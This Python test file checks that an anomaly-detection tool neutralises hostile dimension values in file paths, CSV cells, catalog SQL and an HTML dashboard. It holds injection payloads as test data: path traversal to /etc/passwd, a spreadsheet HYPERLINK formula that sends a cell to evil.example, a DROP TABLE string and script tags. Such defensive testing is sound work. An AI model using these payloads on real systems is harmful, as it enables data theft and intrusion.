"""Hostile dimension values on their way out: file paths, CSV files people open in a
spreadsheet, the catalog's SQL (DuckDB, and the same text on Athena), the dashboard.

One replay over the tutorial shop whose platform and marketplace values are formulas,
paths, SQL and HTML; property-based tests for the quoting and cell rules.
"""
from __future__ import annotations

import csv
import json
import re
from types import SimpleNamespace

import duckdb
import pytest
from hostile_data import MARKETPLACES, PLATFORMS, definition, local_definition
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from l4m import datasets, runner, synth
from l4m.dashboard import read_groups, render_dashboard
from l4m.evaluation import flagged_points
from l4m.hooks.catalog import LocalCatalogHook, _literal
from l4m.io.cells import restore_cell, restore_sql, safe_cell
from l4m.locations import resolve
from l4m.spec import parse_spec

SETTINGS = settings(max_examples=200, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])
RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
HOSTILE_VALUES = {*PLATFORMS.values(), *MARKETPLACES.values()}
SCORES = "results/anomalyResults/metricValueAnomalyScore"
CONTRIBUTIONS = "results/anomalyResults/dimensionContributions"
#: Fragments of the hostile values that must not show up in any file or folder name.
FRAGMENTS = ("escape", "passwd", "HYPERLINK", "DROP", "quoted", "script", "cmd", "SUM")


@pytest.fixture(scope="module")
def shop(tmp_path_factory) -> SimpleNamespace:
    """Two weeks of the tutorial shop with hostile dimension values, replayed and catalogued."""
    root = tmp_path_factory.mktemp("hostile") / "run"
    frame = synth.generate_frame(seed=0, days=14)
    frame = frame[~frame["_missing"]].assign(platform=lambda f: f["platform"].map(PLATFORMS),
                                             marketplace=lambda f: f["marketplace"].map(MARKETPLACES))
    live = root / "live" / "20210101" / "0000"
    live.mkdir(parents=True)
    frame[["platform", "marketplace", "timestamp", "views", "revenue"]].to_csv(
        live / "data.csv", index=False)
    spec = parse_spec(local_definition(root))
    data = runner.read_input(spec, str(root / "live"))
    assert data.quality.rows_invalid == 0
    summary = runner.replay(spec, data, root / "results", scores_out=root / "scores.csv")
    assert summary.groups > 0
    hook = LocalCatalogHook(resolve(spec).catalog)
    hook.refresh(spec, resolve(spec))
    return SimpleNamespace(root=root, spec=spec, hook=hook,
                           basetemp=tmp_path_factory.getbasetemp())


def csv_rows(paths) -> list[dict]:
    rows = []
    for path in paths:
        with open(path, newline="", encoding="utf-8") as handle:
            rows += list(csv.DictReader(handle))
    return rows


def test_no_dimension_value_becomes_a_path(shop):
    """Files stay under the run's folder and are named after interval stamps and fixed
    names only, whatever the dimension values (``../../../escape``, ``/etc/passwd``)."""
    base = shop.root.parent
    written = [p.relative_to(base) for p in base.rglob("*")]
    assert written and all(p.parts[0] == "run" for p in written)
    for path in written:
        for part in path.parts:
            assert re.fullmatch(r"[A-Za-z0-9_.-]+", part), path
            assert not any(f in part for f in FRAGMENTS), path
        assert not (base / path).is_symlink()
    assert not list(shop.basetemp.rglob("escape*"))  # ../../../escape


def test_result_csv_cells_cannot_run_as_formulas(shop):
    files = {"scores": sorted((shop.root / SCORES).glob("*.csv")),
             "contributions": sorted((shop.root / CONTRIBUTIONS).glob("*.csv")),
             "--scores-out": [shop.root / "scores.csv"]}
    seen = set()
    for kind, paths in files.items():
        rows = csv_rows(paths)
        assert rows, kind
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(RISKY) or NUMBER.fullmatch(cell), (kind, column, cell)
        text_columns = {"scores": ("platform", "marketplace"), "contributions": ("dimensionValue",),
                        "--scores-out": ("platform", "marketplace")}[kind]
        values = {restore_cell(row[c]) for row in rows for c in text_columns}
        assert values <= HOSTILE_VALUES
        seen |= values
    assert {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")", "''quoted", "-1"} <= {
        safe_cell(v) for v in seen}
    rows = csv_rows(files["scores"])
    numbers = [row[c] for row in rows for c in row if c.endswith(("MetricValue", "GroupScore"))]
    assert all(cell == "" or NUMBER.fullmatch(cell) for cell in numbers)
    assert all(row["key"][:1].isdigit() for row in rows)


def test_catalog_and_athena_sql_see_the_original_values(shop):
    """The dataset SQL undoes the leading ' of the result files, so anomalies still join."""
    scores = csv_rows(sorted((shop.root / SCORES).glob("*.csv")))
    live = shop.hook.get_dataset(shop.spec, "live")
    assert set(live["platform"]) == set(PLATFORMS.values())
    assert set(live["marketplace"]) == set(MARKETPLACES.values())
    for measure in ("views", "revenue"):
        flagged = live[live[f"is{measure}anomaly"]]
        expected = {(row["Timestamp"], restore_cell(row["platform"]), restore_cell(row["marketplace"]))
                    for row in scores if row[f"{measure}GroupScore"]}
        assert set(zip(flagged["timestamp"], flagged["platform"], flagged["marketplace"])) == expected
    contributions = shop.hook.get_dataset(shop.spec, "contributions")
    assert set(contributions["dimensionvalue"].dropna()) <= HOSTILE_VALUES
    assert "'quoted" in set(live["platform"]) and "''quoted" not in set(contributions["platform"])


def test_hostile_live_file_headers_stay_column_names(tmp_path):
    """The catalog quotes the live files' own column names (crawled, not from the spec)."""
    live = tmp_path / "live" / "20210101" / "0000"
    live.mkdir(parents=True)
    (live / "data.csv").write_text(
        'platform,marketplace,timestamp,views,revenue,"x""; DROP TABLE live; --",'
        '"=HYPERLINK(""http://evil.example"")"\n'
        "pc_web,us,2021-01-01 00:00:00,1,2,a,b\n")
    spec = parse_spec(local_definition(tmp_path))
    hook = LocalCatalogHook(resolve(spec).catalog)
    summary = hook.refresh(spec, resolve(spec))
    assert summary["tables"]["live"]["rows"] == 1 and not summary["skipped"]
    table = hook.query("SELECT * FROM live")
    assert list(table.columns)[-2:] == ['x"; drop table live; --',
                                        '=hyperlink("http://evil.example")']
    assert len(hook.get_dataset(spec, "live")) == 1


def test_evaluation_reads_the_original_values(shop):
    points = flagged_points(shop.root / "results", "views", ["platform", "marketplace"], 0)
    assert len(points) and set(points["platform"]) | set(points["marketplace"]) <= HOSTILE_VALUES


def test_dashboard_shows_hostile_values_as_text(shop):
    page = render_dashboard(shop.spec, shop.hook.get_dataset(shop.spec, "live"),
                            shop.hook.get_dataset(shop.spec, "contributions"),
                            read_groups(shop.root / "results"))
    assert "<script>alert(1)" not in page
    assert "a&quot;b,c&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in page
    data = re.search(r'<script type="application/json" id="l4m-data">(.*?)</script>', page,
                     re.DOTALL).group(1)
    assert "</" not in data and json.loads(data)["groups"]


# ---------------------------------------------------------------------------- properties


@given(st.text())
@SETTINGS
def test_safe_cell_is_reversible_and_never_a_formula(text):
    cell = safe_cell(text)
    assert restore_cell(cell) == text
    assert not cell.startswith(RISKY) or NUMBER.fullmatch(cell)
    if NUMBER.fullmatch(text) or not text.startswith((*RISKY, "'")):
        assert cell == text


@pytest.fixture(scope="module")
def con():
    with duckdb.connect() as connection:
        yield connection


@given(text=st.text().filter(lambda t: "\x00" not in t))
@SETTINGS
def test_restore_sql_matches_restore_cell(con, text):
    got = con.execute(f"SELECT {restore_sql(_literal(safe_cell(text)))}").fetchone()[0]
    assert got == text


@given(name=st.text(min_size=1).filter(lambda t: "\x00" not in t))
@SETTINGS
def test_identifiers_and_literals_are_quoted(con, name):
    cursor = con.execute(f"SELECT {_literal(name)} AS {datasets.quote(name)}")
    assert cursor.description[0][0] == name
    assert cursor.fetchone()[0] == name


_NAMES = st.from_regex(r"[a-zA-Z0-9][a-zA-Z0-9_-]{0,12}", fullmatch=True)


@given(st.lists(_NAMES, min_size=3, max_size=6, unique_by=str.lower))
@settings(SETTINGS, max_examples=60)
def test_dataset_sql_runs_for_any_valid_names(names):
    """Every identifier in the shared SQL is quoted: names like ``9-x`` or ``select`` work."""
    doc = definition()
    measures, dims, ts = names[:1], names[1:-1], names[-1]
    assume(not {n.lower() for n in measures + dims} & {"key", "timestamp"})
    doc["MetricSet"]["MetricList"] = [{"MetricName": m, "AggregationFunction": "SUM"}
                                      for m in measures]
    doc["MetricSet"]["DimensionList"] = dims
    doc["MetricSet"]["TimestampColumn"]["ColumnName"] = ts
    spec = parse_spec(doc)
    try:
        tables = {datasets.LIVE_TABLE: datasets.live_columns(spec),
                  datasets.SCORE_TABLE: datasets.score_columns(spec),
                  datasets.CONTRIB_TABLE: datasets.CONTRIBUTION_COLUMNS}
        views = [datasets.dataset(spec, which) for which in datasets.DATASET_KINDS]
    except ValueError as err:  # a measure named like another's result column
        assume("would have two columns" not in str(err))
        raise
    with duckdb.connect() as con:
        for table, columns in tables.items():
            items = ", ".join(f"CAST(NULL AS {datasets.SQL_TYPES[c.type]}) AS "
                              f"{datasets.quote(c.name)}" for c in columns)
            con.execute(f"CREATE TABLE {datasets.quote(table)} AS SELECT {items} WHERE false")
        for view in views:
            got = con.execute(view.sql).description
            assert [c[0] for c in got] == [c.name for c in view.columns]

